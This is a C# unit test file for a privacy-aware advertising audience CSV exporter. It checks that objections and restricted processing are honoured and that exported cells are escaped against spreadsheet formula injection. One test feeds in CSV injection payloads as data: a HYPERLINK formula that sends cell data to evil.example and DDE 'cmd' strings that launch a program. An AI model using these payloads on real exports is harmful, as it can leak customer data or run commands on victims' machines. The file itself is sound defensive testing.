using System.Globalization;
using CsvHelper;
using MyStamp.Customers.Contracts;
using MyStamp.Privacy.Audience;
using MyStamp.Privacy.Contracts;

namespace MyStamp.Privacy.Tests;

/// <summary>Who receives advertising depends only on objections and restriction; content is the same for all (O4, O5).</summary>
public class AudienceTests
{
    private static AudienceCandidate Candidate(string name, ObjectionsView objections, bool restricted = false, string? phone = "+32470000000") =>
        new(new CustomerProfile(Guid.NewGuid(), name, "Peeters", $"{name.ToLowerInvariant()}@example.be", "F", null, phone,
            new PostalAddress("Kerkstraat", "1", null, "1000", "Brussel", "BE"), AccountType.Consumer, null, 1, DateTimeOffset.UnixEpoch), objections, restricted);

    [Fact]
    public void An_objector_to_a_channel_is_left_out_of_that_channel_only()
    {
        var objector = Candidate("Ann", new ObjectionsView([AdvertisingChannel.Email], false));

        Assert.False(AudienceCsv.MayReceive(objector, AudienceChannel.Email));
        Assert.True(AudienceCsv.MayReceive(objector, AudienceChannel.Post));
    }

    [Fact]
    public void Restricted_processing_leaves_the_customer_out_of_every_channel()
    {
        var restricted = Candidate("Bert", new ObjectionsView([], false), restricted: true);

        Assert.All(Enum.GetValues<AudienceChannel>(), channel => Assert.False(AudienceCsv.MayReceive(restricted, channel)));
    }

    [Fact]
    public void Survey_invitations_respect_their_own_objection()
    {
        var surveyObjector = Candidate("Chris", new ObjectionsView([], true));
        var advertisingObjector = Candidate("Dina", new ObjectionsView(Enum.GetValues<AdvertisingChannel>(), false));

        Assert.False(AudienceCsv.MayReceive(surveyObjector, AudienceChannel.Surveys));
        Assert.True(AudienceCsv.MayReceive(surveyObjector, AudienceChannel.Email));
        Assert.True(AudienceCsv.MayReceive(advertisingObjector, AudienceChannel.Surveys));
    }

    [Fact]
    public void Every_row_carries_the_same_campaign_content()
    {
        var request = new AudienceExportRequest(AudienceChannel.Phone, "Spring stamps", "New sheets are out.", Guid.NewGuid());
        var export = AudienceCsv.Build(request, [Candidate("Els", new([], false)), Candidate("Filip", new([], false)), Candidate("Greet", new([], false), phone: null)]);

        var lines = export.Csv.TrimEnd().Split('\n').Select(line => line.TrimEnd('\r')).ToList();
        Assert.Equal(2, export.Recipients);
        Assert.Equal("customerId,firstName,lastName,phone,subject,message", lines[0]);
        Assert.All(lines.Skip(1), line => Assert.EndsWith(",Spring stamps,New sheets are out.", line, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klik\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    public void A_name_a_spreadsheet_would_run_as_a_formula_opens_as_text(string hostileName)
    {
        var request = new AudienceExportRequest(AudienceChannel.Email, "=1+1 spring stamps", "+New sheets are out.", Guid.NewGuid());
        var export = AudienceCsv.Build(request, [Candidate(hostileName, new([], false))]);

        var row = Rows(export.Csv).Single();
        Assert.Equal("'" + hostileName, row[1]);
        Assert.Equal("'=1+1 spring stamps", row[4]);
        Assert.Equal("'+New sheets are out.", row[5]);
        // What a spreadsheet reads first in each cell: never a formula sign.
        Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
    }

    [Fact]
    public void An_ordinary_name_is_written_as_it_is()
    {
        var request = new AudienceExportRequest(AudienceChannel.Email, "Spring stamps", "New sheets are out.", Guid.NewGuid());
        var export = AudienceCsv.Build(request, [Candidate("Anne-Marie", new([], false))]);

        Assert.Equal("Anne-Marie", Rows(export.Csv).Single()[1]);
    }

    private static List<string[]> Rows(string csvText)
    {
        using var csv = new CsvReader(new StringReader(csvText), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        csv.Read();
        csv.ReadHeader();
        while (csv.Read())
        {
            rows.Add(Enumerable.Range(0, csv.Parser.Count).Select(i => csv.GetField(i) ?? "").ToArray());
        }
        return rows;
    }
}
